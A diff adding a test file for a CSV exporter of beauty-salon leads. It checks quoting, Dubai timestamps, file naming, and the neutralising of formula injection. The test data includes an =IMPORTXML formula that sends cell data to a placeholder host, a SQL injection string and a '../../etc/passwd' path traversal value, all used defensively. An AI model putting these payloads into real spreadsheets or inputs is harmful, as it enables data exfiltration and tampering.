@@ -1,0 +1,227 @@
+import { describe, expect, test } from 'vitest';
+
+import { csvFileName, leadsCsv } from '@/desk/export/csv';
+import { NO_FILTER } from '@/desk/model/filter';
+import type { Lead } from '@/desk/model/lead';
+
+import { HOSTILE } from '../local/hostileStrings';
+import { at, followUp, lead } from './fixtures';
+
+const HEADER = '\uFEFF"Name","Phone","Email","Inquiry","Source","Date","Message","Id"\r\n';
+const csvOf = (...leads: Lead[]) => leadsCsv(leads);
+
+/** The cells of a file, read as RFC 4180 says; throws where it is not one. */
+function cellsOf(csv: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  const token = /"((?:[^"]|"")*)"(,|\r\n)/y;
+  const text = csv.slice(1);
+  while (token.lastIndex < text.length) {
+    const at = token.lastIndex;
+    const [, cell = '', end] = token.exec(text) ?? [];
+    if (end === undefined) throw new Error(`no cell at ${at}: ${text.slice(at, at + 40)}`);
+    row.push(cell.replaceAll('""', '"'));
+    if (end === ',') continue;
+    rows.push(row);
+    row = [];
+  }
+  return rows;
+}
+
+describe('the file', () => {
+  test('a lead, with the time of Dubai', () => {
+    expect(csvOf(lead({ id: '7' }))).toBe(
+      `${HEADER}"Mariam Khoury","'+971 50 000 0012","mariam.k@example.com","lip-blush","hero_booking","2026-11-20 14:08:00","Booking request from hero section","7"\r\n`,
+    );
+  });
+
+  test('with the desk’s columns behind the id, once its follow-ups are there', () => {
+    const answered = { state: 'Contacted', ownerName: 'Maya', firstContactAt: at('2026-11-20 16:09') } as const;
+    const followUps = [followUp('8', answered), followUp('9', answered), followUp('10', { state: 'Lost' })];
+    const csv = leadsCsv(
+      [lead({ id: '7' }), lead({ id: '8' }), lead({ id: '9', createdAt: Number.NaN }), lead({ id: '10' })],
+      new Map(followUps.map((row) => [row.leadId, row])),
+    );
+    expect(cellsOf(csv).map((cells) => cells.slice(-4))).toEqual([
+      ['Id', 'State', 'Owner', 'First response (minutes)'],
+      ['7', 'New', '', ''],
+      ['8', 'Contacted', 'Maya', '121'],
+      ['9', 'Contacted', 'Maya', ''],
+      ['10', 'Lost', '', ''],
+    ]);
+  });
+
+  test('no lead: the header alone', () => {
+    expect(csvOf()).toBe(HEADER);
+  });
+
+  test('what was not given is empty, and so is a time that cannot be read', () => {
+    const bare = lead({ id: '1', name: '', phone: '', email: '', service: '', source: '', message: '' });
+    expect(csvOf({ ...bare, createdAt: Number.NaN })).toBe(`${HEADER}"","","","","","","","1"\r\n`);
+  });
+
+  test('the day turns in Dubai at 20:00 UTC', () => {
+    const late = lead({ id: '1', createdAt: Date.UTC(2026, 11, 31, 20, 0, 5, 900) });
+    expect(cellsOf(csvOf(late))[1]?.[5]).toBe('2027-01-01 00:00:05');
+  });
+
+  test('leads keep their order', () => {
+    const leads = ['c', 'a', 'b'].map((id) => lead({ id }));
+    expect(cellsOf(csvOf(...leads)).map((cells) => cells.at(-1))).toEqual(['Id', 'c', 'a', 'b']);
+  });
+
+  test('quotes, commas and line breaks stay inside of their cell', () => {
+    const csv = csvOf(lead({ id: '1', name: 'Mariam "Mimi" Khoury, Dr.', message: 'one\r\ntwo\rthree\u2028four' }));
+    expect(csv).toContain('"Mariam ""Mimi"" Khoury, Dr.",');
+    expect(csv).toContain('"one\ntwo\nthree\nfour",');
+  });
+
+  test('Arabic names as UTF-8 behind a byte order mark', () => {
+    const bytes = new TextEncoder().encode(csvOf(lead({ id: '1', name: 'ريم' })));
+    expect(Array.from(bytes.subarray(0, 4))).toEqual([0xef, 0xbb, 0xbf, 0x22]);
+    expect(new TextDecoder().decode(bytes)).toContain('"ريم",');
+  });
+});
+
+describe('hostile text', () => {
+  /** Those of the list that a spreadsheet may compute or round, phone numbers among them. */
+  const formulas = new Set([
+    '=HYPERLINK("http://x","y")',
+    '=IMPORTXML("http://x/?"&A1,"//a")',
+    '+971 50 123 4567',
+    '+971501234567',
+    '-2+3',
+    '@SUM(1)',
+    '\t=1',
+    ' =1',
+    '\u00a0=1',
+    '＝1',
+    '007',
+  ]);
+  /** Those with a formula behind a separator. */
+  const inside = new Map([
+    ['\r=1', "'\n'=1"],
+    ['\n=1', "'\n'=1"],
+    ['"; drop table lead_form;--', '"; drop table lead_form;\'--'],
+  ]);
+
+  test('every string of the list is the text of its cells, and formulas begin with an apostrophe', () => {
+    const leads = HOSTILE.map(({ given }, index) =>
+      lead({
+        id: String(index),
+        name: given,
+        email: given,
+        phone: given,
+        service: given,
+        source: given,
+        message: given,
+      }),
+    );
+    const rows = cellsOf(csvOf(...leads)).slice(1);
+    expect(rows).toHaveLength(HOSTILE.length);
+    HOSTILE.forEach(({ given, sent = given, shown = sent }, index) => {
+      const text = inside.get(given) ?? (formulas.has(given) ? `'${shown}` : shown);
+      expect(rows[index], given).toEqual([text, text, text, text, text, '2026-11-20 14:08:00', text, String(index)]);
+    });
+  });
+
+  test.each([
+    ['\u200b=1', "'\u200b=1"],
+    ['\ufeff+1', "'\ufeff+1"],
+    ['\u202e-1', "'\u202e-1"],
+    ['＠SUM(1)', "'＠SUM(1)"],
+    ['0501112234', "'0501112234"],
+    ['050 111 2234', "'050 111 2234"],
+    ['00971501112234', "'00971501112234"],
+    ['971501112234', "'971501112234"],
+    ['501112234', '501112234'],
+    ['0 to 5', '0 to 5'],
+    ['\u0000=1', "'=1"],
+    ['\u001b[31m=1', '[31m=1'],
+    ['Hana - new', 'Hana - new'],
+    ['mariam+lips@example.com', 'mariam+lips@example.com'],
+    ['two\n= three', "two\n'= three"],
+    ['x;=1+1', "x;'=1+1"],
+    ['x,=1+1', "x,'=1+1"],
+    ['x;-1+1', "x;'-1+1"],
+    ['x; @SUM(1)', "x; '@SUM(1)"],
+    ['x;＝1', "x;'＝1"],
+    ['";=1+1', '";\'=1+1'],
+    ['x;"=1+1', 'x;"\'=1+1'],
+    ['\n"=1+1', "'\n\"'=1+1"],
+    ['x\r\n\u200b=1+1', "x\n\u200b'=1+1"],
+    ['x;;=1;=2', "x;;'=1;'=2"],
+    ['x\t=1', 'x =1'],
+    ['x;+1+1', "x;'+1+1"],
+    ['x;+971-50-123', "x;'+971-50-123"],
+    // A list of hyphens is all that changes in prose.
+    ['I would like:\n- brows', "I would like:\n'- brows"],
+    ['Jean-Luc, 10-15 o’clock; semi-permanent - or not', 'Jean-Luc, 10-15 o’clock; semi-permanent - or not'],
+    ['فاطمة، أريد - شكراً', 'فاطمة، أريد - شكراً'],
+    ['04 123 4567, +971 50 123 4567', '04 123 4567, +971 50 123 4567'],
+    ['050 1234567;+971501234567\n+97141234567', '050 1234567;+971501234567\n+97141234567'],
+  ])('%j is written as %j', (given, written) => {
+    expect(cellsOf(csvOf(lead({ id: '1', name: given })))[1]?.[0]).toBe(written);
+  });
+
+  test.each([',', ';', '\t'])('opened with %j, with quotes or without them, no cell begins like a formula', (separator) => {
+    const signs = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1', '=HYPERLINK("http://x","y")'];
+    const before = ['', 'x', ';', ',', '\t', '\n', '"'].flatMap((a) => ['', ' ', '"', '""', '\n', '\u200b', ';"'].map((b) => a + b));
+    const leads = signs.flatMap((sign, at) =>
+      before.map((text, index) => lead({ id: `${at}-${index}`, name: text + sign, phone: text, email: `${sign}${text}${sign}` })),
+    );
+    const cells = csvOf(...leads)
+      .slice(1)
+      .split(separator)
+      .join('\n')
+      .split('\n');
+    expect(cells.length).toBeGreaterThan(leads.length);
+    expect(cells.filter((cell) => /^["\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
+  });
+
+  test('no control character, no half of a surrogate pair', () => {
+    const all = Array.from({ length: 0xa0 }, (_, code) => String.fromCodePoint(code)).join('');
+    const cell = cellsOf(csvOf(lead({ id: '1', name: `x${all}\ud800` })))[1]?.[0] ?? '';
+    expect(cell.replace(/\n/g, '')).not.toMatch(/\p{Cc}/u);
+    expect(cell.isWellFormed()).toBe(true);
+    expect(cell.endsWith('~\ufffd')).toBe(true);
+  });
+});
+
+test('50,000 leads in well under a second', () => {
+  const message = 'I would like "natural" brows,\nand lips.'.repeat(5);
+  const entries = Array.from({ length: 50_000 }, (_, index) => lead({ id: String(index), message }));
+  // Of the processor, not of the clock: other tests run beside this one.
+  const { user } = process.threadCpuUsage();
+  const csv = leadsCsv(entries);
+  expect((process.threadCpuUsage().user - user) / 1000).toBeLessThan(1000);
+  expect(csv.endsWith(',"49999"\r\n')).toBe(true);
+});
+
+describe('the name of the file', () => {
+  // 00:30 on 21 November in Dubai.
+  const now = Date.parse('2026-11-20T20:30:00Z');
+
+  test.each([
+    [{}, 'leads-2026-11-21.csv'],
+    [{ search: 'mariam' }, 'leads-2026-11-21-search.csv'],
+    [{ source: 'lip-blush-dubai' }, 'leads-2026-11-21-lip-blush-dubai.csv'],
+    [{ service: 'Velvet Lips (Full Color)' }, 'leads-2026-11-21-velvet-lips-full-color.csv'],
+    [{ service: 'lip-blush', source: 'hero_booking', search: 'a' }, 'leads-2026-11-21-hero_booking-lip-blush-search.csv'],
+    [{ source: '/permanent-makeup-in-dubai' }, 'leads-2026-11-21-permanent-makeup-in-dubai.csv'],
+    [{ source: '/' }, 'leads-2026-11-21-source.csv'],
+    [{ service: '؟؟' }, 'leads-2026-11-21-inquiry.csv'],
+    [{ source: '../../etc/passwd' }, 'leads-2026-11-21-etc-passwd.csv'],
+    [{ source: 'C:\\CON.|<>*?"\u202efdp\u0000' }, 'leads-2026-11-21-c-con-fdp.csv'],
+    [{ source: 'فاطمة الزهراء' }, 'leads-2026-11-21-فاطمة-الزهراء.csv'],
+    [{ source: 'a-'.repeat(600) }, 'leads-2026-11-21-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a.csv'],
+  ])('%j: %s', (filter, name) => {
+    expect(csvFileName({ ...NO_FILTER, ...filter }, now)).toBe(name);
+  });
+
+  test.each(HOSTILE.map(({ given }) => given))('%j makes no name that a system refuses', (source) => {
+    const name = csvFileName({ ...NO_FILTER, source, service: source, search: source }, now);
+    expect(name).toMatch(/^leads-2026-11-21-[\p{L}\p{N}_][\p{L}\p{N}_-]*\.csv$/u);
+    expect(new TextEncoder().encode(name).length).toBeLessThan(256);
+  });
+});
